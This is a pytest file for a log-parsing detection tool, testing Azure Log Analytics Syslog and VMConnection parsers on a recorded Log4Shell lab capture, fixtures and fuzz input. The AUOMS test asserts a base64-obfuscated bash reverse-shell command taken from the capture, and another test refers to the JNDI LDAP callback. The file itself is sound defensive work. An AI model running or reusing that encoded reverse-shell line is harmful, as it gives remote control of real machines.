"""Azure Log Analytics exports (Syslog with AUOMS / Sysmon / auth messages, VMConnection): golden on the OTRF
Log4Shell capture, own fixtures, bad input, fuzz."""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path

import orjson
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aptwatch.sources import detect_format
from aptwatch.sources.la_syslog import LogAnalyticsSyslog
from aptwatch.sources.la_vmconnection import LogAnalyticsVMConnection
from tests.sources.helpers import count, data, read_all

LOG4SHELL = ("otrf-compound", "Log4Shell")


def la_row(message: str, process: str, **extra: object) -> bytes:
    row = {"TenantId": "t", "SourceSystem": "Linux", "TimeGenerated": "2024-03-01T10:00:01.5Z", "Computer": "WEB01",
           "EventTime": "2024-03-01T10:00:01Z", "Facility": "authpriv", "HostName": "WEB01", "SeverityLevel": "info",
           "SyslogMessage": message, "ProcessID": 2101, "HostIP": "10.0.0.5", "ProcessName": process,
           "Type": "Syslog", **extra}
    return orjson.dumps(row)


def test_auoms_capture(shared: type) -> None:
    base = shared(*LOG4SHELL, "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference")  # type: ignore[operator]
    path = next(base.glob("*.json"))
    assert detect_format(path.read_bytes()[:65536], path.name).name == "la_syslog"  # type: ignore[union-attr]
    rows, warnings = read_all(LogAnalyticsSyslog(), path)
    n_lines = sum(1 for ln in path.read_bytes().split(b"\n") if ln.strip())
    assert warnings == [] and count(rows) == n_lines == 50  # one AUOMS record = one event
    # successful execs are process starts; failed ones (execve of a path that does not exist) stay generic
    assert {t: len(r) for t, r in rows.items()} == {"process": 27, "generic": 23}
    assert all(data(r)["success"] == "no" for r in rows["generic"])
    first = min(rows["process"], key=lambda r: str(r["time"]))
    assert (first["process_path"], first["user"], first["process_id"], first["parent_process_id"], first["host"]) == \
        ("/bin/bash", "tomcat", 17790, 1340, "ubuntu5")
    # AUOMS writes cmdline unescaped, inner quotes and all: read up to the next field
    assert first["command_line"] == 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|' \
                                    '{base64,-d}|{bash,-i}"'
    d = data(first)
    assert d["type"] == "AUOMS_EXECVE" and d["key"] == "auoms,delete" and d["TenantId"] == "redacted"
    assert d["comm"] == "bash" and d["syscall"] == "execve" and d["SYSCALL"] == "execve"
    failed = data(rows["generic"][0])
    assert failed["proctitle"].startswith("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging")


def test_vmconnection_capture(shared: type) -> None:
    base = shared(*LOG4SHELL, "vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference")  # type: ignore[operator]
    path = next(base.glob("*.json"))
    assert detect_format(path.read_bytes(), path.name).name == "la_vmconnection"  # type: ignore[union-attr]
    rows, warnings = read_all(LogAnalyticsVMConnection(), path)
    assert warnings == [] and list(rows) == ["network"] and len(rows["network"]) == 5
    ldap = [r for r in rows["network"] if r["dst_port"] == 1389]
    assert len(ldap) == 1  # the JNDI LDAP callback to the attacker
    r = ldap[0]
    assert (r["src_ip"], r["dst_ip"], r["protocol"], r["initiated"], r["bytes_out"], r["bytes_in"], r["host"]) == \
        ("192.168.2.5", "192.168.2.6", "tcp", True, 129, 196, "ubuntu5")
    assert data(r)["ProcessName"] == "java" and data(r)["Direction"] == "outbound"
    assert Counter(x["initiated"] for x in rows["network"]) == {True: 4, False: 1}


def test_auth_messages_and_joined_raw_audit(tmp_path: Path) -> None:
    lines = [
        la_row("Accepted publickey for deploy from 203.0.113.7 port 52144 ssh2", "sshd"),
        la_row('type=SYSCALL msg=audit(1709287201.100:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 '
               'pid=4242 comm="id" exe="/usr/bin/id" key="exec"', "audispd"),
        la_row('type=EXECVE msg=audit(1709287201.100:77): argc=2 a0="id" a1="-u"', "audispd"),
        la_row("something else entirely", "systemd"),
    ]
    p = tmp_path / "la.json"
    p.write_bytes(b"\n".join(lines) + b"\n")
    rows, warnings = read_all(LogAnalyticsSyslog(), p)
    assert warnings == []
    assert {t: len(r) for t, r in rows.items()} == {"auth": 1, "process": 1, "generic": 1}
    auth = rows["auth"][0]
    assert (auth["action"], auth["target_user"], auth["process_id"], auth["host"]) == ("logon", "deploy", 2101, "web01")
    assert data(auth)["TenantId"] == "t" and data(auth)["HostIP"] == "10.0.0.5"
    proc = rows["process"][0]
    assert proc["command_line"] == "id -u" and proc["host"] == "web01"
    assert proc["raw"] == (lines[1] + b"\n" + lines[2]).decode()  # both rows


def test_bad_rows(tmp_path: Path) -> None:
    p = tmp_path / "bad.json"
    good = la_row("Invalid user x from 10.0.0.9 port 1", "sshd")
    p.write_bytes(good + b"\n" + good[:40] + b"\n[1,2]\n" + la_row("x", "y", SyslogMessage=None) + b"\n")
    rows, warnings = read_all(LogAnalyticsSyslog(), p)
    assert sorted(w.reason for w in warnings) == ["bad_json", "no_message", "not_object"]
    assert count(rows) == 2
    v = tmp_path / "vm.json"
    v.write_bytes(orjson.dumps({"Type": "VMConnection", "TimeGenerated": "bad", "DestinationPort": "x"}) + b"\n")
    rows, warnings = read_all(LogAnalyticsVMConnection(), v)
    assert count(rows) == 1 and sorted(w.reason for w in warnings) == ["bad_time", "bad_value"]


values = st.one_of(st.none(), st.integers(-(2**70), 2**70), st.text(max_size=30), st.booleans(),
                   st.floats(allow_nan=False), st.lists(st.integers(), max_size=2))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.dictionaries(st.sampled_from(["SyslogMessage", "ProcessName", "Computer", "EventTime",
                                                 "TimeGenerated", "ProcessID", "SourceIp", "DestinationPort",
                                                 "BytesSent", "Direction", "Protocol"]), values, max_size=8),
                min_size=1, max_size=10))
def test_fuzz_rows(tmp_path: Path, objs: list[dict[str, object]]) -> None:
    for kind, source in (("Syslog", LogAnalyticsSyslog()), ("VMConnection", LogAnalyticsVMConnection())):
        p = tmp_path / f"{kind}.json"
        p.write_text("\n".join(json.dumps({**o, "Type": kind}) for o in objs) + "\n")
        rows, _ = read_all(source, p)
        assert count(rows) == len(objs)
